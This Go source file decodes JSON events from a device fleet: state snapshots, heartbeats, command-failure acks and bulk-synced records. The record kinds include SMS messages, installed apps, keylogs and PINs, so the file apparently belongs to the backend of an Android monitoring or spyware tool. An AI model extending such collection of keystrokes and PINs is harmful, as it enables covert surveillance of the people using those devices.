// Copyright 2026 The Corral Authors
// SPDX-License-Identifier: Apache-2.0

// Package wire decodes device-originated event payloads into typed
// values. The device fleet has shipped clients that spell the same
// field two ways (snake_case and camelCase); every such fallback is
// resolved here, once, at the boundary. Components past this package
// see only typed structs and never consult raw maps for alternate
// spellings.
package wire

import (
	"encoding/json"
	"fmt"
	"strconv"
)

// StateUpdate is a decoded device attribute snapshot, from the
// identify and update-state events.
type StateUpdate struct {
	// DeviceID is the identity embedded in the payload. The gateway
	// checks it against the connection's authenticated identity
	// before the update goes anywhere.
	DeviceID string

	// Attributes is the full snapshot as sent, stored verbatim as the
	// device's last known attribute state.
	Attributes map[string]any

	// Typed fields lifted out of the snapshot for their own columns.
	// Nil means the snapshot did not carry the field.
	DeviceName   *string
	Manufacturer *string
	Model        *string
	OSVersion    *string
	BatteryLevel *int64
}

// ParseStateUpdate decodes an identify/update-state payload.
func ParseStateUpdate(raw json.RawMessage) (StateUpdate, error) {
	fields, err := decodeObject(raw)
	if err != nil {
		return StateUpdate{}, fmt.Errorf("wire: state update: %w", err)
	}

	update := StateUpdate{
		DeviceID:     stringField(fields, "device_id", "deviceId"),
		Attributes:   fields,
		DeviceName:   optionalString(fields, "device_name", "deviceName"),
		Manufacturer: optionalString(fields, "manufacturer"),
		Model:        optionalString(fields, "model"),
		OSVersion:    optionalString(fields, "os_version", "osVersion", "android_version", "androidVersion"),
		BatteryLevel: optionalInt(fields, "battery_level", "batteryLevel"),
	}
	if update.DeviceID == "" {
		return StateUpdate{}, fmt.Errorf("wire: state update: missing device id")
	}
	return update, nil
}

// Heartbeat is a decoded heartbeat event.
type Heartbeat struct {
	DeviceID string

	// Status is the device's self-reported online flag. Nil means
	// not reported, which the gateway treats as online.
	Status *bool

	BatteryLevel *int64

	// Payload is the full heartbeat body, stored opaquely with the
	// heartbeat row.
	Payload map[string]any
}

// ParseHeartbeat decodes a heartbeat payload.
func ParseHeartbeat(raw json.RawMessage) (Heartbeat, error) {
	fields, err := decodeObject(raw)
	if err != nil {
		return Heartbeat{}, fmt.Errorf("wire: heartbeat: %w", err)
	}

	heartbeat := Heartbeat{
		DeviceID:     stringField(fields, "device_id", "deviceId"),
		Status:       optionalBool(fields, "status"),
		BatteryLevel: optionalInt(fields, "battery_level", "batteryLevel"),
		Payload:      fields,
	}
	if heartbeat.DeviceID == "" {
		return Heartbeat{}, fmt.Errorf("wire: heartbeat: missing device id")
	}
	return heartbeat, nil
}

// CommandFailure is a decoded ack-command-failed payload. Clients
// send either a bare command id string or {command_id, error}.
type CommandFailure struct {
	CommandID string
	Error     string
}

// ParseCommandFailure decodes an ack-command-failed payload.
func ParseCommandFailure(raw json.RawMessage) (CommandFailure, error) {
	var id string
	if err := json.Unmarshal(raw, &id); err == nil {
		if id == "" {
			return CommandFailure{}, fmt.Errorf("wire: command failure: empty command id")
		}
		return CommandFailure{CommandID: id, Error: "unknown error"}, nil
	}

	fields, err := decodeObject(raw)
	if err != nil {
		return CommandFailure{}, fmt.Errorf("wire: command failure: %w", err)
	}
	failure := CommandFailure{
		CommandID: stringField(fields, "command_id", "commandId"),
		Error:     stringField(fields, "error"),
	}
	if failure.CommandID == "" {
		return CommandFailure{}, fmt.Errorf("wire: command failure: missing command id")
	}
	if failure.Error == "" {
		failure.Error = "unknown error"
	}
	return failure, nil
}

// Kind names a bulk-sync record family. Each kind maps to its own
// store table and defines which payload field carries the
// device-scoped local id used for idempotent upsert.
type Kind string

const (
	KindMessages Kind = "messages"
	KindApps     Kind = "apps"
	KindKeylogs  Kind = "keylogs"
	KindPins     Kind = "pins"
)

// localIDKeys maps a kind to the payload fields that can carry its
// local id, in lookup order.
var localIDKeys = map[Kind][]string{
	KindMessages: {"local_sms_id", "localSmsId", "id"},
	KindApps:     {"package_name", "packageName"},
	KindKeylogs:  {"local_id", "localId", "id"},
	KindPins:     {"local_id", "localId", "id"},
}

// ValidKind reports whether kind names a known record family.
func ValidKind(kind Kind) bool {
	_, ok := localIDKeys[kind]
	return ok
}

// Record is one decoded bulk-sync record.
type Record struct {
	DeviceID string
	LocalID  string

	// Fields is the record body as sent; the store persists it
	// opaquely alongside the (device, local id) key.
	Fields map[string]any
}

// ParseRecords decodes a bulk-sync payload: a JSON array of records
// (a bare object is accepted as a one-element array). Records missing
// a device id or the kind's local id are rejected, failing the whole
// batch: a partial sync would silently lose data the client believes
// it delivered.
func ParseRecords(kind Kind, raw json.RawMessage) ([]Record, error) {
	keys, ok := localIDKeys[kind]
	if !ok {
		return nil, fmt.Errorf("wire: unknown record kind %q", kind)
	}

	var items []json.RawMessage
	if err := json.Unmarshal(raw, &items); err != nil {
		// Single-record syncs arrive as a bare object.
		items = []json.RawMessage{raw}
	}

	records := make([]Record, 0, len(items))
	for i, item := range items {
		fields, err := decodeObject(item)
		if err != nil {
			return nil, fmt.Errorf("wire: %s record %d: %w", kind, i, err)
		}
		record := Record{
			DeviceID: stringField(fields, "device_id", "deviceId"),
			LocalID:  stringField(fields, keys...),
			Fields:   fields,
		}
		if record.DeviceID == "" {
			return nil, fmt.Errorf("wire: %s record %d: missing device id", kind, i)
		}
		if record.LocalID == "" {
			return nil, fmt.Errorf("wire: %s record %d: missing local id", kind, i)
		}
		records = append(records, record)
	}
	return records, nil
}

func decodeObject(raw json.RawMessage) (map[string]any, error) {
	if len(raw) == 0 {
		return nil, fmt.Errorf("empty payload")
	}
	var fields map[string]any
	if err := json.Unmarshal(raw, &fields); err != nil {
		return nil, fmt.Errorf("not a JSON object: %w", err)
	}
	return fields, nil
}

// stringField returns the first present, non-empty value among keys,
// rendered as a string. Numeric values are rendered in decimal: local
// ids in particular arrive as numbers from some client builds.
func stringField(fields map[string]any, keys ...string) string {
	for _, key := range keys {
		value, ok := fields[key]
		if !ok || value == nil {
			continue
		}
		switch v := value.(type) {
		case string:
			if v != "" {
				return v
			}
		case float64:
			if v == float64(int64(v)) {
				return strconv.FormatInt(int64(v), 10)
			}
			return strconv.FormatFloat(v, 'f', -1, 64)
		case bool:
			return strconv.FormatBool(v)
		}
	}
	return ""
}

func optionalString(fields map[string]any, keys ...string) *string {
	if s := stringField(fields, keys...); s != "" {
		return &s
	}
	return nil
}

func optionalInt(fields map[string]any, keys ...string) *int64 {
	for _, key := range keys {
		value, ok := fields[key]
		if !ok || value == nil {
			continue
		}
		switch v := value.(type) {
		case float64:
			n := int64(v)
			return &n
		case string:
			if n, err := strconv.ParseInt(v, 10, 64); err == nil {
				return &n
			}
		}
	}
	return nil
}

func optionalBool(fields map[string]any, keys ...string) *bool {
	for _, key := range keys {
		value, ok := fields[key]
		if !ok || value == nil {
			continue
		}
		switch v := value.(type) {
		case bool:
			b := v
			return &b
		case float64:
			b := v != 0
			return &b
		}
	}
	return nil
}
